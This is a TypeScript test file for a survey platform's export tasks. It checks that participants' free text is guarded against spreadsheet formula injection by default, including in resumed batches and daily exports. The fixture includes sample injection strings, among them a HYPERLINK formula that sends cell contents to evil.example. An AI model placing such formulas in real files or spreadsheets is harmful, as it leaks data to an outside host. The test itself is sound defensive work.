// Exports guard participants' text against spreadsheet formulas unless asked not to. The choice is
// recorded on the task, so every chunk and a resumed batch write alike, and a task recorded before
// the guard existed goes on as it began; daily export settings default to it too.
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { and, asc, eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createResponseFormatter } from "@studyflow/case-export";
import {
  dailyExportConfigs,
  reports,
  surveyResponses,
  surveyVersions,
  tasks,
  type ResponseExportInput,
} from "@studyflow/db";
import { Invalid } from "@studyflow/domain/errors";
import {
  createReportExportTask,
  createResponseExportTask,
  getDailyExportConfig,
  openTaskFile,
  setDailyExportConfig,
  startDailyExports,
  type ResponseExportRequest,
} from "@studyflow/domain/exports";
import { createFileStore, type FileStore } from "@studyflow/domain/files";
import { systemClock } from "@studyflow/domain/foundation";
import { createStudy } from "@studyflow/domain/study-setup";
import { publishSurveyVersion } from "@studyflow/domain/surveys";
import { finalizeIfComplete, planTask, processChunk } from "@studyflow/domain/task-pipeline";
import { type TaskRow } from "@studyflow/domain/tasks";
import { createTestDatabase, readOpenedFile, type TestDatabase } from "@studyflow/testkit";

const NOW_MS = Date.UTC(2031, 4, 1);
const STUDY = "guard";
const NO_META = { position: false, initTimes: false, displayedTimes: false, responsedTimes: false };
const TEXTS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd", "@SUM(A1)", "-2+3", "-5", "fine"];

const content = (en: string) => [{ code: "en", parts: [{ str: en, dtype: "str" }] }];
const survey = {
  surveyDefinition: {
    key: "notes",
    items: [
      {
        key: "notes.Q1",
        components: {
          role: "root",
          items: [
            { role: "title", content: content("Anything else?") },
            { key: "rg", role: "responseGroup", items: [{ role: "input", key: "txt", content: content("Text") }] },
          ],
        },
      },
    ],
  },
};

const request = (format: "wide" | "long", over: Partial<ResponseExportRequest> = {}): ResponseExportRequest => ({
  surveyKey: "notes",
  format,
  questionOptionSep: "-",
  shortKeys: false,
  extraContextColumns: [],
  includeMeta: NO_META,
  gzip: false,
  ...over,
});

describe("the formula guard on export tasks", () => {
  let database: TestDatabase;
  let directory: string;
  let store: FileStore;

  beforeAll(async () => {
    database = await createTestDatabase();
    directory = await mkdtemp(path.join(tmpdir(), "sf-guard-"));
    store = createFileStore(database.db);
    await createStudy(database.db, { key: STUDY });
    const version = await publishSurveyVersion(
      database.db,
      { studyKey: STUDY, actor: "test", survey },
      { clock: () => Date.now() },
    );
    await database.db.insert(surveyResponses).values(
      TEXTS.map((text, i) => ({
        studyKey: STUDY,
        participantId: `p${i}`,
        key: "notes",
        versionId: version.versionId,
        openedAt: 1_000 + i,
        submittedAt: 1_001 + i,
        arrivedAt: 1_002 + i,
        responses: [{ key: "notes.Q1", response: { key: "rg", items: [{ key: "txt", value: text }] } }],
        context: { language: "en" },
      })),
    );
    await database.db.insert(reports).values({
      studyKey: STUDY,
      participantId: "p0",
      key: "note",
      eventType: "SUBMIT",
      timestamp: 1_000,
      data: [{ key: "text", value: "@SUM(A1)" }],
    });
  });
  afterAll(async () => {
    await database.drop();
    await rm(directory, { recursive: true, force: true });
  });

  /** Runs the task one row per batch, stopping after the first batch and resuming, as a restarted worker. */
  async function run(created: TaskRow): Promise<string> {
    const planned = await planTask(database.db, created.id, { clock: systemClock, chunkSize: 100, files: store });
    if (planned.status !== "planned") throw new Error(`not planned: ${planned.status}`);
    const options = { clock: () => NOW_MS, batchSize: 1, files: store };
    let asked = 0;
    expect(await processChunk(database.db, created.id, 0, { ...options, shouldStop: () => asked++ === 1 })).toBe(
      "stopped",
    );
    expect(await processChunk(database.db, created.id, 0, options)).toBe("done");
    expect(await finalizeIfComplete(database.db, created.id, directory, () => NOW_MS, store)).toBe("completed");
    const [task] = await database.db.select().from(tasks).where(eq(tasks.id, created.id));
    return (await readOpenedFile(await openTaskFile(database.db, store, task!))).toString("utf8");
  }

  /** The file CASE writes for these responses: the formatter with the guard off, all rows at once. */
  async function caseBytes(format: "wide" | "long", task: TaskRow) {
    const versions = (await database.db.select().from(surveyVersions).where(eq(surveyVersions.studyKey, STUDY))).map(
      (row) => ({
        versionId: row.versionId,
        publishedAt: Math.floor(row.publishedAt.getTime() / 1000),
        unpublishedAt: null,
        definition: row.definition,
      }),
    );
    const rows = await database.db
      .select()
      .from(surveyResponses)
      .where(and(eq(surveyResponses.studyKey, STUDY), eq(surveyResponses.key, "notes")))
      .orderBy(asc(surveyResponses.arrivedAt), asc(surveyResponses.id));
    const formatter = createResponseFormatter("notes", versions, {
      format,
      questionOptionSep: "-",
      shortKeys: false,
      extraContextColumns: [],
      includeMeta: NO_META,
      accountColumns: false,
      now: (task.input as ResponseExportInput).now,
    });
    return formatter.start() + formatter.format(rows, false).text + formatter.end(true);
  }

  for (const format of ["wide", "long"] as const) {
    it(`${format}: guards each formula by default, in every batch of a resumed task; numbers stay`, async () => {
      const created = await createResponseExportTask(database.db, STUDY, request(format), "researcher", {
        clock: systemClock,
      });
      expect((created.input as ResponseExportInput).guardFormulas).toBe(true);
      const text = await run(created);
      for (const attack of TEXTS.slice(0, 4)) {
        expect(text).toContain(`,${attack.includes('"') ? `"'${attack.replaceAll('"', '""')}"` : `'${attack}`}\n`);
      }
      expect(text).toContain(",-5\n");
      expect(text).toContain(",fine\n");
      expect(text).not.toBe(await caseBytes(format, created));
    });

    it(`${format}: guardFormulas false writes CASE's bytes`, async () => {
      const created = await createResponseExportTask(
        database.db,
        STUDY,
        request(format, { guardFormulas: false }),
        "researcher",
        { clock: systemClock },
      );
      expect((created.input as ResponseExportInput).guardFormulas).toBe(false);
      expect(await run(created)).toBe(await caseBytes(format, created));
    });
  }

  it("a task recorded before the guard existed (no guardFormulas in its input) goes on unguarded", async () => {
    const created = await createResponseExportTask(database.db, STUDY, request("wide"), "researcher", {
      clock: systemClock,
    });
    await database.db.execute(sql`update tasks set input = input - 'guardFormulas' where id = ${created.id}`);
    const [old] = await database.db.select().from(tasks).where(eq(tasks.id, created.id));
    expect(old!.input).not.toHaveProperty("guardFormulas");
    expect(await run(old!)).toBe(await caseBytes("wide", old!));
  });

  it("report csv: data values guarded by default, not with guardFormulas false", async () => {
    const guarded = await createReportExportTask(database.db, STUDY, { format: "csv", gzip: false }, "r");
    expect(guarded.input).toMatchObject({ guardFormulas: true });
    expect((await run(guarded)).split("\n")[1]).toMatch(/,'@SUM\(A1\)$/);
    const plain = await createReportExportTask(
      database.db,
      STUDY,
      { format: "csv", gzip: false, guardFormulas: false },
      "r",
    );
    expect((await run(plain)).split("\n")[1]).toMatch(/,@SUM\(A1\)$/);
  });

  it("refuses a guardFormulas that is no boolean, recording nothing", async () => {
    const before = await database.db.$count(tasks);
    await expect(
      createResponseExportTask(
        database.db,
        STUDY,
        request("wide", { guardFormulas: "no" as unknown as boolean }),
        "r",
        { clock: systemClock },
      ),
    ).rejects.toThrow(Invalid);
    await expect(
      createReportExportTask(database.db, STUDY, { gzip: false, guardFormulas: 0 as unknown as boolean }, "r"),
    ).rejects.toThrow(/^guardFormulas: /);
    expect(await database.db.$count(tasks)).toBe(before);
  });

  it("daily exports: on by default, off when set so, on for settings saved before the guard", async () => {
    const options = {
      format: "wide" as const,
      questionOptionSep: "-",
      shortKeys: false,
      extraContextColumns: [],
      includeMeta: NO_META,
      gzip: false,
    };
    const on = await setDailyExportConfig(database.db, STUDY, { surveyKeys: ["notes"], options, enabled: true }, "r", {
      clock: systemClock,
    });
    expect(on.options.guardFormulas).toBe(true);
    const off = await setDailyExportConfig(
      database.db,
      STUDY,
      { surveyKeys: ["notes"], options: { ...options, guardFormulas: false }, enabled: true },
      "r",
      { clock: systemClock },
    );
    expect(off.options.guardFormulas).toBe(false);
    const queued: TaskRow[] = [];
    const queue = (task: TaskRow) => {
      queued.push(task);
      return Promise.resolve();
    };
    await startDailyExports(database.db, { clock: systemClock, now: NOW_MS, queue });
    expect(queued.map((task) => (task.input as ResponseExportInput).guardFormulas)).toEqual([false]);

    // settings saved before the guard existed lack the key: their next day's export is guarded
    await database.db.execute(
      sql`update daily_export_configs set options = options - 'guardFormulas' where study_key = ${STUDY}`,
    );
    const [stored] = await database.db.select().from(dailyExportConfigs).where(eq(dailyExportConfigs.studyKey, STUDY));
    expect(stored!.options).not.toHaveProperty("guardFormulas");
    expect((await getDailyExportConfig(database.db, STUDY))?.options.guardFormulas).toBe(true);
    await startDailyExports(database.db, { clock: systemClock, now: NOW_MS + 86_400_000, queue });
    expect(queued.map((task) => (task.input as ResponseExportInput).guardFormulas)).toEqual([false, true]);
  });
});
